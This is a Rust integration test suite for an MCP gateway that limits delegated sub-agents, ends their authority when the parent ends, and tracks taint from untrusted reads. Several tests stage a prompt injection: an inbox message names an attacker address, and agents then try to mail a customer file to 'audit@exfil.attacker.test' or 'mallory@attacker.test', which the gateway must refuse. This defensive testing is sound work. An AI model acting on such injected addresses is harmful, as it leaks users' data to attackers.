//! Issue 29: sub-agents with narrower authority. A parent agent hands part
//! of its task to a child (`jit_delegate`); the child begins its own task
//! under the delegation and can never do more than was delegated, whatever
//! its own agent file allows; authority ends from the top. Parent and child
//! are real MCP clients of the real gateway, in both eras.

mod common;

use common::*;
use serde_json::{Value, json};

const DELEGATION_POLICY: &str = r#"
@id("support-delegates-within-the-team")
permit (principal in Team::"support", action == Action::"Delegate", resource in Server::"workspace")
when { context.delegation.child_team == principal.team };
"#;

fn agent(name: &str, tools: &str, extra: &str) -> (String, String) {
    (format!("{name}.toml"), format!("name = \"{name}\"\nid = \"spiffe://jitgate.local/agent/{name}\"\nteam = \"support\"\nallowed_tools = [{tools}]\n{extra}\n"))
}

fn deployment(limits: &str) -> Deployment {
    let mut policies = quickstart_policies();
    policies.push(("60-delegation.cedar".into(), DELEGATION_POLICY.into()));
    Deployment::new(&Setup {
        policies,
        limits: limits.into(),
        agents: vec![
            agent("lead", "\"workspace__read_note\", \"workspace__read_inbox\", \"workspace__send_message\", \"workspace__write_note\"", "delegates_to = [\"helper\"]"),
            // The child's own file allows every workspace tool: the delegation, not the file, bounds it.
            agent("helper", "\"workspace__*\"", "delegates_to = [\"searcher\"]"),
            agent("searcher", "\"workspace__read_note\", \"workspace__send_message\"", ""),
            agent("outsider", "\"workspace__read_note\"", ""),
        ],
        ..Setup::default()
    })
}

fn ok_answer(r: &rmcp::model::CallToolResult) -> Value {
    assert_ne!(r.is_error, Some(true), "{}", text_of(r));
    answer(r)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_child_holds_only_what_was_delegated_and_loses_it_with_its_parent() {
    let dep = deployment("");
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    // Parent in the handshake era, child in the 2026-07-28 era.
    let lead = gw.connect(&dep.mint("lead")).await;
    let helper = gw.connect_modern(&dep.mint("helper")).await;
    let outsider = gw.connect(&dep.mint("outsider")).await;

    let task = begin(&lead, json!([{"name": "read", "tools": ["workspace__read_note", "workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
    let delegate = |body: Value| raw_call(&lead, "jit_delegate", body);

    // What the parent may not hand over: beyond its remaining plan, to an
    // agent its file does not name.
    let r = delegate(json!({"task": task, "agent": "helper", "objective": "o", "phases": [{"name": "w", "tools": ["workspace__write_note"]}]})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("delegation_widens"), "{}", text_of(&r));
    let r = delegate(json!({"task": task, "agent": "outsider", "objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}]})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("delegation_not_allowed"), "{}", text_of(&r));

    // The legitimate delegation: read a note for the parent.
    let granted = ok_answer(&delegate(json!({"task": task, "agent": "helper", "objective": "summarize the Q3 plan", "phases": [{"name": "review", "tools": ["workspace__read_note"]}]})).await.unwrap());
    let dlg = granted["delegation"].as_str().unwrap().to_owned();

    // Another agent cannot delegate from this agent's task.
    let r = raw_call(&outsider, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}]})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("task_not_found"), "{}", text_of(&r));
    // Another agent cannot use it.
    let r = raw_call(&outsider, "jit_begin_task", json!({"objective": "steal", "phases": [{"name": "r", "tools": ["workspace__read_note"]}], "delegation": dlg})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("delegation_not_found"), "{}", text_of(&r));
    // The child cannot plan a tool the parent holds but did not delegate.
    let r = raw_call(&helper, "jit_begin_task", json!({"objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note", "workspace__read_inbox"]}], "delegation": dlg})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("not_delegated"), "{}", text_of(&r));

    // The child works within it.
    let begun = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "summarize the Q3 plan", "phases": [{"name": "review", "tools": ["workspace__read_note"]}], "delegation": dlg})).await.unwrap());
    let child_task = begun["task"].as_str().unwrap().to_owned();
    let token = request(&helper, &child_task, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
    let r = call_with_token(&helper, "workspace__read_note", json!({"name": "q3-plan.md"}), &token).await.unwrap();
    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
    // One task per delegation.
    let r = raw_call(&helper, "jit_begin_task", json!({"objective": "again", "phases": [{"name": "r", "tools": ["workspace__read_note"]}], "delegation": dlg})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("delegation_used"), "{}", text_of(&r));

    // The parent moves past the phase that uses the delegated tool: the
    // child's authority for it ended with that phase.
    let spare = request(&helper, &child_task, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
    let r = raw_call(&lead, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
    assert_eq!(r.is_error, Some(false), "{}", text_of(&r));
    let r = raw_call(&helper, "jit_request", json!({"task": child_task, "tool": "workspace__read_note", "arguments": {"name": "q3-plan.md"}, "purpose": "again"})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("parent_phase_left"), "{}", text_of(&r));
    let r = call_with_token(&helper, "workspace__read_note", json!({"name": "q3-plan.md"}), &spare).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("parent_phase_left"), "a token granted before is refused at the call: {}", text_of(&r));

    // Constrained delegation of the reply: only to the address the parent names.
    let granted = ok_answer(
        &delegate(json!({"task": task, "agent": "helper", "objective": "reply to alice", "phases": [{"name": "reply", "tools": ["workspace__send_message"]}],
            "constraints": {"workspace__send_message": {"to": {"eq": "alice@example.org"}}}}))
        .await
        .unwrap(),
    );
    let reply = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "reply", "phases": [{"name": "reply", "tools": ["workspace__send_message"]}], "delegation": granted["delegation"]})).await.unwrap());
    let reply_task = reply["task"].as_str().unwrap().to_owned();
    let r = raw_call(&helper, "jit_request", json!({"task": reply_task, "tool": "workspace__send_message", "arguments": {"to": "mallory@attacker.test", "subject": "s", "body": "b"}, "purpose": "reply"})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("outside_delegation"), "{}", text_of(&r));
    let token = request(&helper, &reply_task, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Q3", "body": "summary"})).await.unwrap();
    let r = call_with_token(&helper, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Q3", "body": "summary"}), &token).await.unwrap();
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));

    // Authority ends from the top: the parent ends its task; the child's
    // task ends with it, its token unusable.
    let spare = request(&helper, &reply_task, "workspace__send_message", json!({"to": "alice@example.org", "subject": "again", "body": "b"})).await.unwrap();
    let r = raw_call(&lead, "jit_end_task", json!({"task": task, "outcome": "done"})).await.unwrap();
    assert_eq!(r.is_error, Some(false), "{}", text_of(&r));
    let r = call_with_token(&helper, "workspace__send_message", json!({"to": "alice@example.org", "subject": "again", "body": "b"}), &spare).await.unwrap();
    assert!(matches!(refusal_code(&r).as_deref(), Some("token_revoked" | "task_inactive" | "parent_task_inactive")), "{:?}: {}", refusal_code(&r), text_of(&r));
    let r = raw_call(&helper, "jit_request", json!({"task": reply_task, "tool": "workspace__send_message", "arguments": {"to": "alice@example.org", "subject": "s", "body": "b"}, "purpose": "after"})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("task_inactive"), "the child's task was ended with its parent: {}", text_of(&r));

    // The traces show the tree: the parent's delegations with their child
    // tasks, the child's parent; the reviewers' page links them.
    let cfg = dep.config.to_str().unwrap();
    let (code, tree, err) = jitgate(&["trace", &task, "--json", "--config", cfg]);
    assert_eq!(code, Some(0), "{err}");
    let tree: Value = serde_json::from_str(&tree).unwrap();
    let children: Vec<&str> = tree["delegations"].as_array().unwrap().iter().filter_map(|d| d["child_task"].as_str()).collect();
    assert_eq!(children, [child_task.as_str(), reply_task.as_str()], "{tree}");
    let (_, text, _) = jitgate(&["trace", &child_task, "--config", cfg]);
    assert!(text.contains(&format!("delegated by task {task}")), "{text}");
    let base = gw.url.trim_end_matches("/mcp").to_owned();
    let page = reqwest::Client::new().get(format!("{base}/ui/tasks/{task}")).header("authorization", format!("Bearer {}", dep.mint_reviewer("rita@example.org"))).send().await.unwrap().text().await.unwrap();
    assert!(page.contains(&format!("/ui/tasks/{child_task}")) && page.contains("Delegated"), "{page}");

    // Every delegation is on record.
    let (_, export, _) = jitgate(&["audit", "export", "--config", dep.config.to_str().unwrap()]);
    let granted: Vec<Value> = export.lines().filter_map(|l| serde_json::from_str::<Value>(l).ok()).filter(|v| v["kind"] == "delegation.granted").collect();
    assert_eq!(granted.len(), 2, "{granted:#?}");
    assert_eq!(granted[0]["data"]["child_name"], "helper");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grandchild_cannot_widen_and_the_depth_is_bounded() {
    let dep = deployment("max_delegation_depth = 2\n");
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let lead = gw.connect(&dep.mint("lead")).await;
    let helper = gw.connect(&dep.mint("helper")).await;

    let task = begin(&lead, json!([{"name": "work", "tools": ["workspace__read_note", "workspace__send_message"]}])).await.unwrap();
    let granted = ok_answer(&raw_call(&lead, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "o", "phases": [{"name": "w", "tools": ["workspace__read_note"]}]})).await.unwrap());
    let begun = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "o", "phases": [{"name": "w", "tools": ["workspace__read_note"]}], "delegation": granted["delegation"]})).await.unwrap());
    let child_task = begun["task"].as_str().unwrap().to_owned();
    // The child holds read_note only: it cannot hand send_message (which its
    // parent holds, and its own file allows) to the grandchild.
    let r = raw_call(&helper, "jit_delegate", json!({"task": child_task, "agent": "searcher", "objective": "o", "phases": [{"name": "s", "tools": ["workspace__send_message"]}]})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("delegation_widens"), "{}", text_of(&r));
    // Within its share it may delegate once more (depth 2)...
    let granted = ok_answer(&raw_call(&helper, "jit_delegate", json!({"task": child_task, "agent": "searcher", "objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}]})).await.unwrap());
    let searcher = gw.connect_modern(&dep.mint("searcher")).await;
    let begun = ok_answer(&raw_call(&searcher, "jit_begin_task", json!({"objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}], "delegation": granted["delegation"]})).await.unwrap());
    let grandchild_task = begun["task"].as_str().unwrap().to_owned();
    let token = request(&searcher, &grandchild_task, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
    assert!(!token.is_empty());
    // ...and the grandchild loses it when the top task ends.
    let r = raw_call(&lead, "jit_end_task", json!({"task": task, "outcome": "done"})).await.unwrap();
    assert_eq!(r.is_error, Some(false), "{}", text_of(&r));
    let r = raw_call(&searcher, "jit_request", json!({"task": grandchild_task, "tool": "workspace__read_note", "arguments": {"name": "q3-plan.md"}, "purpose": "after"})).await.unwrap();
    assert!(matches!(refusal_code(&r).as_deref(), Some("task_inactive" | "parent_task_inactive")), "{:?}: {}", refusal_code(&r), text_of(&r));

    // With a depth limit of 1 a child may not delegate at all.
    let dep = deployment("max_delegation_depth = 1\n");
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let lead = gw.connect(&dep.mint("lead")).await;
    let helper = gw.connect(&dep.mint("helper")).await;
    let task = begin(&lead, json!([{"name": "work", "tools": ["workspace__read_note"]}])).await.unwrap();
    let granted = ok_answer(&raw_call(&lead, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "o", "phases": [{"name": "w", "tools": ["workspace__read_note"]}]})).await.unwrap());
    let begun = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "o", "phases": [{"name": "w", "tools": ["workspace__read_note"]}], "delegation": granted["delegation"]})).await.unwrap());
    let r = raw_call(&helper, "jit_delegate", json!({"task": begun["task"], "agent": "searcher", "objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}]})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("delegation_too_deep"), "{}", text_of(&r));
}

/// Taint flows with the work: what the child read from untrusted content
/// counts for the parent's requests, and what the parent read counts for
/// the child's. The same requests with the user's own values go through.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn taint_flows_between_parent_and_child() {
    let dep = deployment("");
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let lead = gw.connect(&dep.mint("lead")).await;
    let helper = gw.connect_modern(&dep.mint("helper")).await;
    let plan = json!([{"name": "work", "tools": ["workspace__read_inbox", "workspace__send_message"]}]);
    let send = |to: &str| json!({"to": to, "subject": "audit", "body": "the customer file"});

    // The child reads the inbox (an injected message names an attacker's address).
    let task = begin(&lead, plan.clone()).await.unwrap();
    let granted = ok_answer(&raw_call(&lead, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "read the inbox", "phases": [{"name": "read", "tools": ["workspace__read_inbox"]}]})).await.unwrap());
    let begun = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "read the inbox", "phases": [{"name": "read", "tools": ["workspace__read_inbox"]}], "delegation": granted["delegation"]})).await.unwrap());
    let child_task = begun["task"].as_str().unwrap().to_owned();
    let token = request(&helper, &child_task, "workspace__read_inbox", json!({})).await.unwrap();
    let r = call_with_token(&helper, "workspace__read_inbox", json!({}), &token).await.unwrap();
    assert!(text_of(&r).contains("audit@exfil.attacker.test"), "{}", text_of(&r));
    // The parent then acts on it: the address is tainted for the parent too.
    let held = grant(&lead, json!({"task": task, "tool": "workspace__send_message", "arguments": send("audit@exfil.attacker.test"), "purpose": "as the helper found"})).await;
    let held = held.map(|v| v["decision"].clone()).unwrap_or_else(|r| Value::String(refusal_code(&r).unwrap_or_default()));
    assert!(held != Value::Null && held != "allow" && held.as_str() != Some(""), "the child's read taints the parent's send: {held}");
    assert!(grant(&lead, json!({"task": task, "tool": "workspace__send_message", "arguments": send("alice@example.org"), "purpose": "the user's own"})).await.unwrap()["token"].is_string());

    // The other way round (a fresh deployment: the helper above read the
    // inbox itself): the parent reads, the child sends.
    let dep = deployment("");
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let helper = gw.connect_modern(&dep.mint("helper")).await;
    let lead2 = gw.connect(&dep.mint("lead")).await;
    let task = begin(&lead2, plan).await.unwrap();
    let token = request(&lead2, &task, "workspace__read_inbox", json!({})).await.unwrap();
    call_with_token(&lead2, "workspace__read_inbox", json!({}), &token).await.unwrap();
    let granted = ok_answer(&raw_call(&lead2, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "send", "phases": [{"name": "send", "tools": ["workspace__send_message"]}]})).await.unwrap());
    let begun = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "send", "phases": [{"name": "send", "tools": ["workspace__send_message"]}], "delegation": granted["delegation"]})).await.unwrap());
    let child_task = begun["task"].as_str().unwrap().to_owned();
    let r = raw_call(&helper, "jit_request", json!({"task": child_task, "tool": "workspace__send_message", "arguments": send("audit@exfil.attacker.test"), "purpose": "as told"})).await.unwrap();
    let got = if r.is_error == Some(true) { refusal_code(&r).unwrap_or_default() } else { answer(&r)["decision"].as_str().unwrap_or("allow").to_owned() };
    assert_ne!(got, "allow", "the parent's read taints the child's send: {}", text_of(&r));
    let r = raw_call(&helper, "jit_request", json!({"task": child_task, "tool": "workspace__send_message", "arguments": send("alice@example.org"), "purpose": "own"})).await.unwrap();
    assert!(r.is_error != Some(true) && answer(&r)["token"].is_string(), "{}", text_of(&r));
}

/// The official clients as parent and child: the Python client delegates,
/// the TypeScript client works under the delegation in both eras, and loses
/// it when the parent ends its task.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn official_clients_as_parent_and_child_in_both_eras() {
    let dep = deployment("");
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let parent = |args: &[&str]| -> Value {
        let out = std::process::Command::new(repo_root().join(".venv/bin/python"))
            .arg(repo_root().join("tests/support/python/delegate_parent.py"))
            .args([gw.url.as_str(), &dep.mint("lead")])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "the Python parent failed:\n{}", String::from_utf8_lossy(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let child = |mode: &str, delegation: &str| -> Value {
        let out = std::process::Command::new("node")
            .arg(repo_root().join("tests/support/node/delegate_child.mjs"))
            .args([mode, gw.url.as_str(), &dep.mint("helper"), delegation])
            .output()
            .unwrap();
        assert!(out.status.success(), "the TypeScript child failed ({mode}):\n{}", String::from_utf8_lossy(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let begun = parent(&["begin"]);
    let task = begun["answer"]["task"].as_str().unwrap_or_else(|| panic!("{begun}")).to_owned();
    let mut child_tasks = Vec::new();
    for mode in ["default", "auto"] {
        let granted = parent(&["delegate", &task]);
        let dlg = granted["answer"]["delegation"].as_str().unwrap_or_else(|| panic!("{granted}")).to_owned();
        let ran = child(mode, &dlg);
        assert_eq!(ran["widened"]["code"], "not_delegated", "{mode}: {ran}");
        assert_eq!(ran["begun"]["is_error"], false, "{mode}: {ran}");
        assert_eq!(ran["called"]["is_error"], false, "{mode}: {ran}");
        assert!(ran["called"]["text"].as_str().unwrap().contains("Ship the billing export"), "{mode}: {ran}");
        child_tasks.push(ran["task"].as_str().unwrap().to_owned());
    }
    let ended = parent(&["end", &task]);
    assert_eq!(ended["is_error"], false, "{ended}");
    // Below an ended task nothing works, in either era.
    let helper = gw.connect_modern(&dep.mint("helper")).await;
    for child_task in child_tasks {
        let r = raw_call(&helper, "jit_call", json!({"task": child_task, "tool": "workspace__read_note", "arguments": {"name": "q3-plan.md"}, "purpose": "after"})).await.unwrap();
        assert!(matches!(refusal_code(&r).as_deref(), Some("task_inactive" | "parent_task_inactive")), "{:?}: {}", refusal_code(&r), text_of(&r));
    }
}

/// However the parent's authority ends (revoked by an operator, its agent
/// quarantined, its TTL reached), in another process or by the clock, the
/// child is refused at its next request and its task is ended by the sweep.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn authority_ends_from_the_top_however_the_parent_ends() {
    let dep = deployment("");
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let cfg = dep.config.to_str().unwrap().to_owned();
    let lead = gw.connect_modern(&dep.mint("lead")).await;
    let helper = gw.connect_modern(&dep.mint("helper")).await;
    let child_of = |task: String| {
        let (lead, helper) = (&lead, &helper);
        async move {
            let granted = ok_answer(&raw_call(lead, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}]})).await.unwrap());
            let begun = ok_answer(&raw_call(helper, "jit_begin_task", json!({"objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}], "delegation": granted["delegation"]})).await.unwrap());
            let child = begun["task"].as_str().unwrap().to_owned();
            assert!(request(helper, &child, "workspace__read_note", json!({"name": "q3-plan.md"})).await.is_ok(), "the child works while its parent does");
            child
        }
    };
    let refused = |child: String| {
        let helper = &helper;
        async move {
            let r = raw_call(helper, "jit_request", json!({"task": child, "tool": "workspace__read_note", "arguments": {"name": "q3-plan.md"}, "purpose": "after"})).await.unwrap();
            refusal_code(&r).unwrap_or_else(|| format!("not refused: {}", text_of(&r)))
        }
    };
    // Ended by the sweep: the child's own task becomes inactive (not only refused).
    let ended_by_sweep = |child: String| {
        let refused = &refused;
        async move {
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
            loop {
                let code = refused(child.clone()).await;
                if code == "task_inactive" {
                    return;
                }
                assert!(std::time::Instant::now() < deadline, "the child's task was never ended (last: {code})");
                assert_eq!(code, "parent_task_inactive", "refused for its parent meanwhile");
                tokio::time::sleep(std::time::Duration::from_millis(300)).await;
            }
        }
    };
    let plan = json!([{"name": "r", "tools": ["workspace__read_note"]}]);

    // Revoked by an operator (another process).
    let task = begin(&lead, plan.clone()).await.unwrap();
    let child = child_of(task.clone()).await;
    let (code, _, err) = jitgate(&["revoke", "--task", &task, "--reason", "incident", "--config", &cfg]);
    assert_eq!(code, Some(0), "{err}");
    ended_by_sweep(child).await;

    // The parent's TTL runs out.
    // (15 s: a delegation lives at least 10 s, and the next second may have begun.)
    let short = ok_answer(&raw_call(&lead, "jit_begin_task", json!({"objective": "brief", "phases": plan, "ttl_seconds": 15})).await.unwrap());
    let expires_at = short["expires_at"].as_str().unwrap().to_owned();
    let child = child_of(short["task"].as_str().unwrap().to_owned()).await;
    // Until the parent's TTL runs out, the child works; then not.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while refused(child.clone()).await.starts_with("not refused") {
        assert!(std::time::Instant::now() < deadline, "the child outlived its parent (expiring {expires_at})");
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    }
    ended_by_sweep(child).await;

    // The parent's agent is quarantined.
    let task = begin(&lead, plan.clone()).await.unwrap();
    let child = child_of(task).await;
    let (code, _, err) = jitgate(&["agents", "quarantine", "lead", "--reason", "drifted", "--config", &cfg]);
    assert_eq!(code, Some(0), "{err}");
    ended_by_sweep(child).await;
}

/// From an adversarial review: the parent's phase order holds for its
/// children (a tool of a later phase waits until the parent gets there);
/// what the parent read is checked at the child's call too (an open
/// constraint let the value through the request); agents in observe mode
/// neither delegate nor are delegated to.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_parents_phase_order_and_reads_hold_for_its_child_at_the_call() {
    let dep = deployment("");
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let lead = gw.connect_modern(&dep.mint("lead")).await;
    let helper = gw.connect_modern(&dep.mint("helper")).await;
    let task = begin(&lead, json!([{"name": "read", "tools": ["workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
    let granted = ok_answer(&raw_call(&lead, "jit_delegate", json!({"task": task, "agent": "helper", "objective": "reply", "phases": [{"name": "reply", "tools": ["workspace__send_message"]}]})).await.unwrap());
    let begun = ok_answer(&raw_call(&helper, "jit_begin_task", json!({"objective": "reply", "phases": [{"name": "reply", "tools": ["workspace__send_message"]}], "delegation": granted["delegation"]})).await.unwrap());
    let child = begun["task"].as_str().unwrap().to_owned();
    // The parent is still reading: the reply waits.
    let ask = json!({"task": child, "tool": "workspace__send_message", "purpose": "reply",
        "constraints": {"to": {"eq": "alice@example.org"}, "subject": {"eq": "Q3"}, "body": {"schema": {"type": "string"}}}});
    let r = raw_call(&helper, "jit_request", ask.clone()).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("parent_phase_not_reached"), "{}", text_of(&r));
    // The parent reads its inbox (an injected message names an attacker's address), then moves on.
    let token = request(&lead, &task, "workspace__read_inbox", json!({})).await.unwrap();
    call_with_token(&lead, "workspace__read_inbox", json!({}), &token).await.unwrap();
    let r = raw_call(&lead, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
    assert_eq!(r.is_error, Some(false), "{}", text_of(&r));
    // The open body passes the request; the address from the parent's read is refused at the call.
    let token = request_with(&helper, ask).await.unwrap();
    let r = call_with_token(&helper, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Q3", "body": "also copy audit@exfil.attacker.test"}), &token).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("tainted_argument"), "{}", text_of(&r));
    assert!(!sent_to(&dep).contains(&"audit@exfil.attacker.test".to_owned()));
    // The honest body goes through.
    let token = request_with(&helper, json!({"task": child, "tool": "workspace__send_message", "purpose": "reply",
        "constraints": {"to": {"eq": "alice@example.org"}, "subject": {"eq": "Q3"}, "body": {"schema": {"type": "string"}}}})).await.unwrap();
    let r = call_with_token(&helper, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Q3", "body": "the plan ships in March"}), &token).await.unwrap();
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agents_in_observe_mode_neither_delegate_nor_are_delegated_to() {
    let mut dep_setup_agents = vec![
        agent("lead", "\"workspace__read_note\"", "delegates_to = [\"watcher\"]"),
        agent("watcher", "\"workspace__read_note\"", "mode = \"observe\""),
    ];
    let mut policies = quickstart_policies();
    policies.push(("60-delegation.cedar".into(), DELEGATION_POLICY.into()));
    let dep = Deployment::new(&Setup { policies, agents: std::mem::take(&mut dep_setup_agents), ..Setup::default() });
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let lead = gw.connect_modern(&dep.mint("lead")).await;
    let task = begin(&lead, json!([{"name": "r", "tools": ["workspace__read_note"]}])).await.unwrap();
    let r = raw_call(&lead, "jit_delegate", json!({"task": task, "agent": "watcher", "objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}]})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("delegation_not_allowed"), "{}", text_of(&r));
    assert!(text_of(&r).contains("observe mode"), "{}", text_of(&r));
}

/// Authority only shrinks in policy too: a child of a more trusted team,
/// given work by a parent whose policy forbids something, cannot do it
/// under that delegation, though its own policy would allow it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_parents_policy_holds_for_what_it_delegated() {
    let mut policies = quickstart_policies();
    policies.push((
        "60-delegation.cedar".into(),
        "permit (principal in Team::\"support\", action == Action::\"Delegate\", resource in Server::\"workspace\");\n\
         @id(\"support-never-reads-the-acme-file\")\n\
         forbid (principal in Team::\"support\", action == Action::\"Request\", resource)\n\
         when { context.arguments.hasTag(\"name\") && context.arguments.getTag(\"name\") == \"customer-acme.md\" };\n"
            .into(),
    ));
    let agents = vec![
        agent("lead", "\"workspace__read_note\"", "delegates_to = [\"ops\"]"),
        ("ops.toml".to_owned(), "name = \"ops\"\nid = \"spiffe://jitgate.local/agent/ops\"\nteam = \"platform\"\nallowed_tools = [\"workspace__read_note\"]\n".to_owned()),
    ];
    let dep = Deployment::new(&Setup { policies, agents, ..Setup::default() });
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let lead = gw.connect_modern(&dep.mint("lead")).await;
    let ops = gw.connect_modern(&dep.mint("ops")).await;
    // On its own, the platform agent may read the file.
    let own = begin(&ops, json!([{"name": "r", "tools": ["workspace__read_note"]}])).await.unwrap();
    assert!(request(&ops, &own, "workspace__read_note", json!({"name": "customer-acme.md"})).await.is_ok());
    // Under the support agent's delegation it may not.
    let task = begin(&lead, json!([{"name": "r", "tools": ["workspace__read_note"]}])).await.unwrap();
    let granted = ok_answer(&raw_call(&lead, "jit_delegate", json!({"task": task, "agent": "ops", "objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}]})).await.unwrap());
    let begun = ok_answer(&raw_call(&ops, "jit_begin_task", json!({"objective": "o", "phases": [{"name": "r", "tools": ["workspace__read_note"]}], "delegation": granted["delegation"]})).await.unwrap());
    let child = begun["task"].as_str().unwrap().to_owned();
    let r = raw_call(&ops, "jit_request", json!({"task": child, "tool": "workspace__read_note", "arguments": {"name": "customer-acme.md"}, "purpose": "read"})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("policy_denied"), "{}", text_of(&r));
    assert!(text_of(&r).contains("support-never-reads-the-acme-file"), "{}", text_of(&r));
    assert!(request(&ops, &child, "workspace__read_note", json!({"name": "q3-plan.md"})).await.is_ok(), "what both allow goes through");
}

/// A `delegates_to` naming no agent (a typo) is a configuration error that
/// `check` names, with the file.
#[test]
fn a_delegate_that_is_not_there_is_a_configuration_error() {
    let dep = Deployment::new(&Setup { agents: vec![agent("lead", "\"workspace__read_note\"", "delegates_to = [\"helpr\"]")], ..Setup::default() });
    let (code, _, err) = jitgate(&["check", "--offline", "--config", dep.config.to_str().unwrap()]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("lead.toml") && err.contains("delegates_to names `helpr`"), "{err}");
    let fixed = deployment("");
    let (code, _, err) = jitgate(&["check", "--offline", "--config", fixed.config.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{err}");
}
